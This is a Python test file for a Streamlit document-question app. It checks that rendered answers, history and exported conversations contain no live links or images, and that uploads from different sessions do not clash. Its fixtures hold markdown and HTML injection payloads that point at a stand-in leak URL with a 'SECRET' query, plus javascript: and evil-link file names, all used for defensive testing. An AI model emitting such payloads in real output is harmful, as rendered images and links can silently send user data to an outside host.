"""The page in-process (Streamlit's AppTest) with the fake models: what it draws is inert, and
uploads from different sessions never overwrite each other."""

from __future__ import annotations

import re

import pytest
from streamlit.testing.v1 import AppTest

from rag.answer import Answer, SourceRef
from rag.app import build_app
from rag.settings import load_settings
from tests.conftest import NO_REFUSAL, FakeLLM
from tests.test_safe_markdown import live_parts, visible_text
from ui.transcript import conversation_markdown

LEAK = "http://127.0.0.1:9/leak"
HOSTILE = (
    f"Leave is 25 days [1]. ![x]({LEAK}/img?q=SECRET) [more]({LEAK}/link) <{LEAK}/auto> "
    f'{LEAK}/bare <img src="{LEAK}/html">'
)


# Directives the page itself writes: citation badges, relevance labels and the evidence
# background. Their content is escaped document text, which is still checked.
OWN_BADGE = re.compile(r":blue-badge\[\d{1,3}\]|:(?:green|orange|gray|red)-badge\[[a-zA-Z ]+\]")
OWN_BACKGROUND = re.compile(r":orange-background\[((?:\\.|[^\]\\])*)\]")


def page_made(markdown: str) -> str:
    """The markdown without the page's own directives (their escaped content kept)."""
    return OWN_BACKGROUND.sub(r"\1", OWN_BADGE.sub("", markdown))


def unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown)


@pytest.fixture
def page_home(rag_home, monkeypatch, fake_embedder, tmp_path):
    """A library of one document, and the page wired to the fake models."""
    app = build_app(load_settings(**NO_REFUSAL), embedder=fake_embedder, llm=FakeLLM(reply=HOSTILE))
    doc = tmp_path / "docs" / "[x](http:evil) leave.md"
    doc.parent.mkdir()
    doc.write_text("# Leave <b>policy</b>\n\nEmployees get 25 days of paid annual leave.\n")
    app.ingestor().ingest([doc.parent])
    yield app
    app.close()


def draw(app) -> None:
    """The page script, run by AppTest with the test's App."""
    from ui.page import main

    main(app)


def draw_library(app) -> None:
    """The Library page alone, run by AppTest with the test's App."""
    from ui.library import main

    main(app)


def page(app, script=draw) -> AppTest:
    test = AppTest.from_function(script, kwargs={"app": app}, default_timeout=60)
    test.run()
    assert not test.exception, test.exception
    return test


def test_answers_and_history_are_drawn_inert(page_home):
    app = page(page_home)
    app.chat_input[0].set_value("How many days of leave?").run()
    app.chat_input[0].set_value("And how many days of leave next year?").run()
    assert not app.exception, app.exception
    drawn = [md.value for message in app.chat_message for md in message.markdown]
    drawn += [c.value for c in app.caption]
    assert drawn and all(live_parts(page_made(md)) == [] for md in drawn), drawn
    answers = [visible_text(md.value) for m in app.chat_message for md in m.markdown]
    assert sum(f"{LEAK}/img?q=SECRET" in a for a in answers) == 2  # shown as text, twice
    assert any(":blue-badge[1] **[x](http:evil) leave.md" in unescape(md) for md in drawn)
    assert any("Leave <b>policy</b>" in unescape(md) for md in drawn)  # the heading, as text


def test_uploads_from_two_sessions_with_one_name_both_stay(page_home):
    first, second, third = (page(page_home, draw_library) for _ in range(3))
    first.file_uploader[0].upload("notes.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n").run()
    second.file_uploader[0].upload("notes.md", b"# Beta\n\nParking is in garage B2.\n").run()
    third.file_uploader[0].upload("copy.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n").run()
    for app in (first, second, third):
        assert not app.exception, app.exception
    uploads = page_home.settings.home / "uploads"
    stored = sorted((p.name, p.read_bytes()) for p in uploads.rglob("*.md"))
    assert stored == [
        ("notes.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n"),
        ("notes.md", b"# Beta\n\nParking is in garage B2.\n"),
    ]
    documents = {m.label: m.value for m in page(page_home, draw_library).metric}["Documents"]
    assert documents == "3"  # the first upload's chunks are still there
    notes = [unescape(c.value) for app in (second, third) for c in app.caption]
    assert any("notes.md stored as uploads/default/" in n and "earlier upload" in n for n in notes)
    assert any("copy.md is already in the library (as notes.md)" in n for n in notes)


def test_the_uploader_states_the_limit(page_home, monkeypatch, fake_embedder):
    monkeypatch.setenv("RAG_MAX_FILE_MB", "12.5")
    limited = build_app(load_settings(), embedder=fake_embedder)
    uploader = page(limited, draw_library).file_uploader[0]
    assert "up to 13 MB per file" in uploader.label
    assert uploader.proto.max_upload_size_mb == 13


def test_the_exported_conversation_loads_nothing():
    source = SourceRef(
        file="/docs/<img src=x> [a](javascript:x) www.e.io.md", page=2, score=0.5, text="t"
    )
    answer = Answer(text=HOSTILE, sources=[source], refused=False, cited=[1])
    history = [
        {"role": "user", "content": f"What about ![q]({LEAK}/question)?"},
        {"role": "assistant", "content": HOSTILE, "answer": answer},
    ]
    exported = conversation_markdown(history, "default")
    assert live_parts(exported) == []
    shown = visible_text(exported)
    for text in [
        f"{LEAK}/img?q=SECRET",
        f"{LEAK}/question",
        "[1] <img src=x> [a](javascript:x) www.e.io.md",
    ]:
        assert text in shown
